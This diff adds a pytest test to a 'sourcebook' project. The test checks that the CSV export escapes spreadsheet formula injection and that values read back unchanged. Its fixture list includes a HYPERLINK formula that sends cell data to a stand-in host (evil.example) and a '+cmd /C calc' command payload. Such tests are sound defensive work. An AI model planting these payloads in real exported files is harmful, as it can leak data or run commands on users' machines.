@@ -3,6 +3,9 @@ nothing read from it (no Django: the checks are :mod:`sourcebook.core.authority_
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 
 from sourcebook.core.authority_file import read_csv
@@ -39,3 +42,34 @@ def test_a_description_may_span_lines():
     assert errors == []
     assert rows[0].description == "Premier.\nChairman of the party."
     assert rows[0].variants == ["Kim Il Sung"]
+
+
+# Names and descriptions a TEI volume or an editor may bring that a spreadsheet would run.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Kim")',
+    "+cmd /C calc!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "'=already quoted",
+    "''-twice",
+    "'Abd al-Rahman",  # an apostrophe before a letter stays as it is
+    "Kim Il-sung",
+]
+
+
+def test_exported_cells_never_start_a_formula_and_read_back_as_written():
+    from sourcebook.core.authority_file import write_csv
+
+    rows = [
+        {"id": f"p{n}", "name": name, "kind": "person", "description": name, "variants": [name]}
+        for n, name in enumerate(FORMULAS)
+    ]
+    written = write_csv(rows)
+    cells = [cell for line in csv.reader(io.StringIO(written)) for cell in line]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+    assert "'=HYPERLINK(" in written and "'+cmd /C" in written
+    back, errors = read_csv(written.encode(), "authorities.csv")
+    assert errors == []
+    assert [(r.name, r.description, r.variants) for r in back] == [
+        (name, name, [name]) for name in FORMULAS
+    ]
